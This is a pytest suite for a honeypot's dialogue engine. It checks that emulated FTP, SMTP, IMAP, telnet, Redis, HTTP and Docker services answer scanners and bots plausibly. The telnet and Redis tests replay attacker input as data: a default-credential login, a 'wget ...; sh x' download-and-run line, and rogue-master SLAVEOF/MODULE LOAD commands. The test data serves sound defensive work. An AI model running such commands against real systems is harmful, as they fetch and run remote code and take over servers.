"""The dialogue engine, sans-IO: the file format, the shipped dialogues, detection, the session.

Bytes in, Reply out, no sockets; the real clients are in test_dialogue_daemon.py.
"""

from __future__ import annotations

import email.utils
import random
import re
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from honeytrap.dialogue import detect
from honeytrap.dialogue.base import SENSOR_RNG, Context, DialogueError, Reply
from honeytrap.dialogue.catalog import Catalog
from honeytrap.dialogue.detect import classify
from honeytrap.dialogue.framing import HttpFramer, RespFramer, TelnetFramer
from honeytrap.dialogue.raw import RawDialogue
from honeytrap.dialogue.script import load_script, parse_script, uses_id
from honeytrap.dialogue.text import DATA_PORTS, ScriptDialogue, rfc_date
from honeytrap.errors import ConfigError
from honeytrap.session import Closed, NormalSession

TEMPLATES = Path(__file__).resolve().parent.parent / "templates"
SHIPPED = sorted(TEMPLATES.glob("*.dialogue"))


def ctx(port: int = 21, read_limit: int = 1 << 20) -> Context:
    return Context("tcp", port, read_limit, rng=random.Random(7), hostname="sensor-1",
                   local_addr="198.18.0.2")


_catalog: list[Catalog] = []


def shipped_catalog() -> Catalog:
    """The shipped templates' catalog, loaded once (its TLS context costs a certificate)."""
    if not _catalog:
        _catalog.append(Catalog.load(str(TEMPLATES)))
    return _catalog[0]


def play(port: int, *chunks: bytes) -> tuple[ScriptDialogue, list[Reply]]:
    dialogue = ScriptDialogue(load_script(str(TEMPLATES / f"{port}_tcp.dialogue")), ctx(port))
    return dialogue, [dialogue.receive(chunk) for chunk in chunks]


# --- the file format --------------------------------------------------------------------------

def test_every_shipped_dialogue_loads() -> None:
    catalog = shipped_catalog()
    assert {path.name for path in SHIPPED} == {
        f"{port}_{protocol}.dialogue" for protocol, port in catalog.scripts}
    assert {"ftp", "smtp", "pop3", "imap", "telnet", "redis", "http"} <= set(catalog.by_name)


@pytest.mark.parametrize(("text", "line", "what"), [
    ("parser line", 1, "first statement must be 'dialogue NAME'"),
    ("dialogue x\nbogus 1", 2, "unknown statement 'bogus'"),
    ("dialogue x\n\n# c\non regex \"(\" reply \"a\"", 4, "bad regular expression"),
    ("dialogue x\non any reply \"${nope}\"", 2, "unknown placeholder ${nope}"),
    ("dialogue x\non any reply \"\\q\"", 2, "unknown escape"),
    ("dialogue x\non any reply \"open", 2, "unterminated string"),
    ("dialogue x\nparser smtp", 2, "unknown parser 'smtp'"),
    ("dialogue x\ndelay 2 1", 2, "delay needs"),
    ("dialogue x\n  \"more\"", 2, "no rule is open"),
    ("dialogue x\non any status 200 \"OK\"", 0, "status/header/body need parser http"),
    ("dialogue x\nstate a\nstate a", 3, "declared twice"),
])
def test_a_bad_dialogue_names_its_file_and_line(text: str, line: int, what: str) -> None:
    with pytest.raises(ConfigError) as info:
        parse_script(text, "21_tcp.dialogue")
    prefix = f"21_tcp.dialogue:{line}: " if line else "21_tcp.dialogue: "
    assert str(info.value).startswith(prefix)
    assert what in str(info.value)


def test_a_goto_to_no_state_is_refused_with_its_line() -> None:
    with pytest.raises(ConfigError, match=r"x\.dialogue: line 3: goto 'b': no such state"):
        parse_script("dialogue x\nstate a\non any goto b", "x.dialogue")


def test_strings_continue_and_placeholders_expand_once() -> None:
    script = parse_script('dialogue x\non cmd ECHO reply "[${arg}]"\n    "\\x41\\$${port}"')
    dialogue = ScriptDialogue(script, ctx(99))
    # the client's ${port} is data: never expanded again
    assert dialogue.receive(b"echo ${port}\r\n").send == b"[${port}]A$99"


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_a_script_or_a_config_error(text: str) -> None:
    try:
        parse_script("dialogue fuzz\n" + text)
    except ConfigError:
        pass


# --- FTP --------------------------------------------------------------------------------------

def test_ftp_logs_in_and_offers_a_data_port_to_list_on() -> None:
    dialogue, replies = play(21, b"USER anonymous\r\n", b"PASS x@y\r\n", b"PWD\r\nTYPE I\r\n",
                             b"PASV\r\n", b"LIST\r\n", b"QUIT\r\n")
    assert dialogue.start() == (TEMPLATES / "21_tcp").read_bytes()  # the raw template's banner
    sent = [reply.send.split(b" ")[0] for reply in replies]
    assert sent == [b"331", b"230", b"257", b"227", b"150", b"221"]
    assert b"200 Switching to Binary mode." in replies[2].send
    pasv, listing = replies[3], replies[4]
    found = re.search(rb"\((198,18,0,2),(\d+),(\d+)\)", pasv.send)
    assert found is not None and pasv.data is not None
    port = int(found[2]) * 256 + int(found[3])
    assert pasv.data.listen == port and DATA_PORTS[0] <= port <= DATA_PORTS[1]
    assert listing.data is not None and listing.data.send is not None
    assert b"welcome.msg" in listing.data.send and listing.data.then.startswith(b"226 ")
    assert replies[5].close


def test_ftp_before_login_answers_530_and_stor_reads_the_data_connection() -> None:
    _, replies = play(21, b"LIST\r\n", b"USER a\r\nPASS b\r\nEPSV\r\nSTOR x.sh\r\n")
    assert replies[0].send.startswith(b"530 ") and replies[0].data is None
    last = replies[1]
    assert b"229 Entering Extended Passive Mode (|||" in last.send
    assert last.data is not None and last.data.listen and last.data.receive


# --- SMTP, POP3, IMAP -------------------------------------------------------------------------

def test_smtp_takes_data_until_the_lone_dot() -> None:
    body = b"Subject: hi\r\n\r\n..stuffed\r\n.not the end\r\n"
    _, replies = play(25, b"EHLO me\r\n", b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\n", b"DATA\r\n",
                      body, b".\r\n", b"QUIT\r\n")
    assert replies[0].send.startswith(b"250-sensor-1\r\n")
    assert replies[1].send == b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n"
    assert replies[2].send.startswith(b"354 ")
    assert replies[3].send == b""  # the body gets no reply
    assert replies[4].send.startswith(b"250 2.0.0 Ok: queued as ")
    assert replies[5].send.startswith(b"221 ") and replies[5].close


def test_a_connection_id_is_drawn_for_every_script_and_kept_where_one_is_written() -> None:
    smtp = load_script(str(TEMPLATES / "25_tcp.dialogue"))
    rng = random.Random(7)  # noqa: S311 - ctx()'s: the banner's jitter, then the id
    if smtp.delay[1]:
        rng.uniform(*smtp.delay)
    expected = b"%010X" % rng.getrandbits(40)
    _, replies = play(25, b"EHLO me\r\n", b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\n", b"DATA\r\n",
                      b"hi\r\n", b".\r\n")
    assert replies[4].send == b"250 2.0.0 Ok: queued as " + expected + b"\r\n"
    assert uses_id(smtp)
    # A script without ${id} (FTP's) still draws one (the sensor's sequence stays as it was)
    # but does not keep it.
    ftp = load_script(str(TEMPLATES / "21_tcp.dialogue"))
    assert not uses_id(ftp)
    context = ctx(21)
    before = context.rng.getstate()
    dialogue = ScriptDialogue(ftp, context)
    replay = random.Random()  # noqa: S311
    replay.setstate(before)
    if ftp.delay[1]:
        replay.uniform(*ftp.delay)
    replay.getrandbits(40)
    assert context.rng.getstate() == replay.getstate()
    assert dialogue._id == 0


def test_pop3_user_pass_and_an_empty_maildrop() -> None:
    _, replies = play(110, b"USER u\r\n", b"PASS p\r\n", b"STAT\r\n", b"QUIT\r\n")
    assert [r.send for r in replies[:3]] == [b"+OK\r\n", b"+OK Logged in.\r\n", b"+OK 0 0\r\n"]
    assert replies[3].close


def test_imap_replies_carry_the_clients_tag() -> None:
    _, replies = play(143, b"a1 CAPABILITY\r\n", b"x.2 LOGIN bob secret\r\n", b"zz LOGOUT\r\n")
    assert replies[0].send.endswith(b"\r\na1 OK Pre-login capabilities listed, post-login "
                                    b"capabilities have more.\r\n")
    assert replies[1].send.startswith(b"x.2 OK ")
    assert replies[2].send.endswith(b"zz OK Logout completed.\r\n") and replies[2].close


# --- telnet -----------------------------------------------------------------------------------

def test_telnet_negotiates_logs_in_and_answers_a_bots_shell_lines() -> None:
    dialogue, replies = play(
        23, b"\xff\xfd\x01\xff\xfb\x18\xff\xfd\x05\xff\xfd\x05", b"root\r\n", b"xc3511\r\0",
        b"enable\r\n", b"/bin/busybox ECCHI\r\n", b"wget http://198.18.0.9/x; sh x\r\n")
    banner = dialogue.start()
    assert banner.startswith(b"\xff\xfb\x01\xff\xfb\x03\xff\xfd\x18\xff\xfd\x1f")
    assert banner.endswith(b"sensor-1 login: ")
    # DO ECHO (offered) and WILL TTYPE (asked for) are accepted silently; DO 5 refused once
    assert replies[0].send == b"\xff\xfc\x05"
    assert replies[1].send == b"Password: "
    assert b"BusyBox" in replies[2].send and replies[2].send.endswith(b"# ")
    assert replies[3].send == b"# "
    assert replies[4].send == b"ECCHI: applet not found\r\n# "
    assert replies[5].send == b"# "
    assert dialogue.record()["commands"][-1] == "WGET"


def test_telnet_iac_iac_is_a_data_byte_and_subnegotiation_is_dropped() -> None:
    framer = TelnetFramer(b"")
    requests, answer = framer.feed(b"\xff\xfa\x18\x00xterm\xff\xf0ab\xff\xffc\r\n")
    assert answer == b"" and [r.text for r in requests] == [b"ab\xffc"]


# --- Redis ------------------------------------------------------------------------------------

def test_redis_answers_ping_info_config_and_the_rogue_master_commands() -> None:
    _, replies = play(
        6379, b"*1\r\n$4\r\nPING\r\n", b"PING\r\n", b"*1\r\n$4\r\nINFO\r\n",
        b"*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n",
        b"*3\r\n$7\r\nSLAVEOF\r\n$10\r\n198.18.0.9\r\n$4\r\n6379\r\n",
        b"*3\r\n$6\r\nMODULE\r\n$4\r\nLOAD\r\n$11\r\n/tmp/exp.so\r\n")
    assert replies[0].send == replies[1].send == b"+PONG\r\n"
    info = replies[2].send
    length, _, rest = info.partition(b"\r\n")
    assert int(length[1:]) == len(rest) - 2 and b"redis_version:7.0.15\r\n" in rest
    assert replies[3].send == b"*2\r\n$3\r\ndir\r\n$0\r\n\r\n"
    assert replies[4].send == replies[5].send == b"+OK\r\n"


def test_resp_split_anywhere_gives_the_same_requests() -> None:
    data = b"*2\r\n$3\r\nGET\r\n$5\r\nk\r\ney\r\n*1\r\n$4\r\nPING\r\n"
    for cut in range(len(data) + 1):
        framer = RespFramer()
        requests = framer.feed(data[:cut])[0] + framer.feed(data[cut:])[0]
        assert [r.text for r in requests] == [b"GET k\r\ney", b"PING"]


def test_a_broken_resp_array_is_a_protocol_error_that_closes() -> None:
    _, replies = play(6379, b"*x\r\n")
    assert replies[0].send.startswith(b"-ERR Protocol error") and replies[0].close


# --- HTTP -------------------------------------------------------------------------------------

def test_http_status_follows_method_and_path() -> None:
    _, replies = play(80, b"GET /nope HTTP/1.1\r\nHost: x\r\n\r\n")
    head = replies[0].send.split(b"\r\n\r\n")[0]
    assert head.startswith(b"HTTP/1.1 404 Not Found\r\n")
    assert b"Connection: keep-alive" in head and not replies[0].close
    date = re.search(rb"\r\nDate: ([^\r]+)", head)
    assert date is not None
    when = email.utils.parsedate_to_datetime(date[1].decode()).timestamp()
    assert abs(when - time.time()) < 5


@given(st.floats(min_value=0, max_value=253402300799, allow_nan=False))  # to 9999-12-31
def test_reply_dates_are_what_email_utils_writes(when: float) -> None:
    """${date} and ${maildate}: the standard library's formatdate, without importing it."""
    assert rfc_date(when, b"GMT") == email.utils.formatdate(when, usegmt=True).encode()
    assert rfc_date(when, b"-0000") == email.utils.formatdate(when).encode()


def test_http_head_has_no_body_and_http10_closes() -> None:
    _, replies = play(80, b"HEAD / HTTP/1.0\r\n\r\n")
    head, _, body = replies[0].send.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.0 200 OK") and body == b""
    assert b"Content-Length: 183" in head and replies[0].close


def test_http_pipelined_requests_with_bodies_are_answered_in_order() -> None:
    data = (b"POST /a HTTP/1.1\r\nContent-Length: 5\r\n\r\nhello"
            b"PUT /b HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"
            b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n")
    _, replies = play(80, data)
    statuses = re.findall(rb"HTTP/1.1 (\d+)", replies[0].send)
    assert statuses == [b"405", b"405", b"200"] and replies[0].close


def test_garbage_on_an_http_port_gets_400_and_close() -> None:
    _, replies = play(80, b"\x16\x03\x01\x00\x05hello\r\n\r\n")
    assert replies[0].send.startswith(b"HTTP/1.1 400 Bad Request") and replies[0].close


def test_http_head_larger_than_the_limit_is_a_bad_request() -> None:
    framer = HttpFramer()
    requests, _ = framer.feed(b"GET / HTTP/1.1\r\nX: " + b"a" * 70000)
    assert [r.cmd for r in requests] == [b"!BAD"]


def test_elasticsearch_and_docker_paths() -> None:
    _, replies = play(9200, b"GET / HTTP/1.1\r\n\r\nGET /_cat/indices HTTP/1.1\r\n\r\n")
    assert b"\"number\" : \"7.10.2\"" in replies[0].send and b"customers" in replies[0].send
    _, replies = play(2375, b"GET /v1.43/version HTTP/1.1\r\n\r\n"
                      b"POST /containers/create HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}")
    assert b"\"ApiVersion\":\"1.43\"" in replies[0].send
    assert b"HTTP/1.1 201 Created" in replies[0].send


# --- detection --------------------------------------------------------------------------------

@pytest.mark.parametrize(("first", "name"), [
    (b"GET / HTTP/1.1\r\n", "http"),
    (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "tls"),
    (b"SSH-2.0-OpenSSH_9.2p1\r\n", "ssh"),
    (b"OPTIONS sip:100@198.18.0.2 SIP/2.0\r\n", "sip"),
    (b"OPTIONS / HTTP/1.0\r\n", "http"),
    (b"\x00\x00\x00\x54\xfeSMB@\x00", "smb"),
    (b"\x00\x00\x00\x85\xffSMBr", "smb"),
    (b"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00", "rdp"),
    (b"\x00\x00\x00\x08\x04\xd2\x16\x2f", "postgres"),
    (b"*1\r\n$4\r\nPING\r\n", "redis"),
    (b"EHLO x\r\n", "smtp"),
    (b"hello\r\n", None),
])
def test_first_bytes_name_the_protocol(first: bytes, name: str | None) -> None:
    assert classify(first) == name


_GATED = ((detect._SIP, detect._SIP_FIRST), (detect._HTTP, detect._HTTP_FIRST),
          (detect._RESP, detect._REDIS_FIRST), (detect._REDIS_INLINE, detect._REDIS_FIRST),
          (detect._SMTP, detect._SMTP_FIRST))


def _gate_hides_no_match(data: bytes) -> None:
    for pattern, firsts in _GATED:
        if pattern.match(data):
            assert data[0] in firsts, (pattern.pattern, data)


def _every_case(word: bytes) -> list[bytes]:
    variants = [b""]
    for byte in word:
        cases = {bytes([byte]), bytes([byte]).lower(), bytes([byte]).upper()}
        variants = [start + case for start in variants for case in sorted(cases)]
    return variants


def test_a_pattern_is_skipped_only_where_it_cannot_match() -> None:
    """classify tries a pattern only on data starting with a byte a match of it can start with:
    every command it looks for, in every case, with every kind of what may follow."""
    words = [*detect._HTTP_METHODS, *detect._SIP_METHODS, *detect._REDIS_COMMANDS,
             *detect._SMTP_COMMANDS, b"*"]
    for word in words:
        for variant in _every_case(word):
            for after in (b" ", b" /", b" sip:", b" sips:", b"\r\n", b"1", b""):
                _gate_hides_no_match(variant + after)


@given(st.binary(max_size=40))
def test_no_bytes_start_a_match_the_gate_skips(data: bytes) -> None:
    _gate_hides_no_match(data)


def test_a_connections_context_carries_each_value_in_its_field() -> None:
    catalog = Catalog(hostname="sensor-7", extra={"k": 1})
    context = catalog.context("tcp", 2222, 4096, "198.18.0.2", "198.18.0.1", 40001)
    assert (context.protocol, context.port, context.read_limit) == ("tcp", 2222, 4096)
    assert context.rng is SENSOR_RNG
    assert (context.hostname, context.state_dir, context.extra) == ("sensor-7", "", {"k": 1})
    assert (context.local_addr, context.remote_addr, context.remote_port) == (
        "198.18.0.2", "198.18.0.1", 40001)


def test_a_port_without_template_is_silent_until_the_client_speaks() -> None:
    catalog = shipped_catalog()
    factory = catalog.factory(7777, None)
    dialogue = factory(ctx(7777))
    session = NormalSession(dialogue, read_limit=4096, read_timeout=1.0, now=0.0)
    assert session.start().send == b""
    for second in range(1, 10):
        assert session.on_tick(float(second)).send == b""  # never a newline
    out = session.on_data(b"GET /x HTTP/1.1\r\n\r\n", 10.0)
    assert out.send.startswith(b"HTTP/1.1 404") and dialogue.name == "http"
    assert dialogue.record()["detected"] == "http"


def test_an_unknown_protocol_gets_one_newline_per_turn() -> None:
    catalog = shipped_catalog()
    session = NormalSession(catalog.factory(7777, None)(ctx(7777)), read_limit=4096,
                            read_timeout=1.0, now=0.0)
    sent = session.on_data(b"hello there, something long\r\n", 0.0).send
    for tenth in range(1, 30):
        sent += session.on_tick(tenth / 10).send
    assert sent == b"\n"


# --- the raw template and the session ---------------------------------------------------------

def test_raw_template_goes_out_after_a_drawn_quiet_period_once_per_turn() -> None:
    raw = RawDialogue(b"220 hi\r\n", ctx())
    session = NormalSession(raw, read_limit=4096, read_timeout=1.0, now=0.0)
    assert session.start().send == b""
    assert 0.15 <= session.deadline() <= 0.45  # not the read timeout's 1.00 s
    assert session.on_tick(session.deadline()).send == b"220 hi\r\n"
    assert session.on_tick(1.0).send == b""  # a silent client is not flooded
    session.on_data(b"x", 2.0)
    assert session.on_tick(session.deadline()).send == b"220 hi\r\n"


def test_session_keeps_read_limit_bytes_and_closes() -> None:
    session = NormalSession(RawDialogue(b"", ctx()), read_limit=10, read_timeout=1.0, now=0.0)
    assert not session.on_data(b"12345", 0.0).close
    assert session.on_data(b"6789012", 0.0).close
    assert session.payload == b"1234567890" and session.truncated
    assert session.closed is Closed.READ_LIMIT


def test_session_closes_after_the_idle_limit_of_read_timeouts() -> None:
    session = NormalSession(RawDialogue(b"", ctx()), read_limit=10, read_timeout=1.0, now=0.0,
                            idle_limit=11)
    assert not session.on_tick(10.9).close
    assert session.on_tick(11.0).close and session.closed is Closed.IDLE


class Broken:
    name = "broken"

    def start(self) -> bytes:
        return b"hello"

    def receive(self, data: bytes) -> Reply:
        raise DialogueError("bad frame")

    def idle(self) -> Reply:
        return Reply()

    def record(self) -> dict[str, object]:
        return {}


def test_a_dialogue_error_closes_with_a_note_and_keeps_the_bytes() -> None:
    session = NormalSession(Broken(), read_limit=100, read_timeout=1.0, now=0.0)
    session.start()
    out = session.on_data(b"evil", 0.1)
    assert out.close and session.closed is Closed.ERROR
    assert session.payload == b"evil" and "bad frame" in session.error
    assert session.transcript.turns == [-5, 4]


# --- fuzzing: only Replies come out of any bytes --------------------------------------------

def feed_all(path: Path, chunks: list[bytes]) -> None:
    dialogue = ScriptDialogue(load_script(str(path)), ctx(int(path.name.split("_")[0])))
    dialogue.start()
    for chunk in chunks:
        reply = dialogue.receive(chunk)
        assert isinstance(reply, Reply)
    dialogue.idle()
    dialogue.record()


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(SHIPPED), st.lists(st.binary(max_size=200), max_size=8))
def test_any_bytes_into_any_shipped_dialogue_give_replies(path: Path, chunks: list[bytes]
                                                          ) -> None:
    feed_all(path, chunks)


PROTOCOL_BITS = st.sampled_from([
    b"GET / HTTP/1.1\r\n", b"\r\n", b"\r\n\r\n", b"Content-Length: 3\r\n", b"*2\r\n",
    b"$3\r\n", b"PING", b"\xff\xfd\x01", b"\xff\xfa", b"\xff\xf0", b"\xff\xff", b"USER a\r\n",
    b"0\r\n", b"Transfer-Encoding: chunked\r\n", b"\x16\x03\x01", b"SSH-2.0-x\r\n", b".\r\n",
])


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(SHIPPED),
       st.lists(st.lists(PROTOCOL_BITS | st.binary(max_size=20), max_size=6).map(b"".join),
                max_size=6))
def test_protocol_shaped_bytes_into_any_shipped_dialogue_give_replies(
    path: Path, chunks: list[bytes]
) -> None:
    feed_all(path, chunks)


@settings(max_examples=200, deadline=None)
@given(st.lists(PROTOCOL_BITS | st.binary(max_size=40), max_size=10).map(b"".join))
def test_detection_of_any_bytes_gives_a_dialogue_that_answers(data: bytes) -> None:
    catalog = shipped_catalog()
    session = NormalSession(catalog.factory(7777, None)(ctx(7777)), read_limit=1 << 16,
                            read_timeout=1.0, now=0.0)
    session.on_data(data, 0.0)
    session.on_tick(0.5)
    session.on_tick(1.0)
    assert session.closed in (Closed.OPEN, Closed.DIALOGUE)
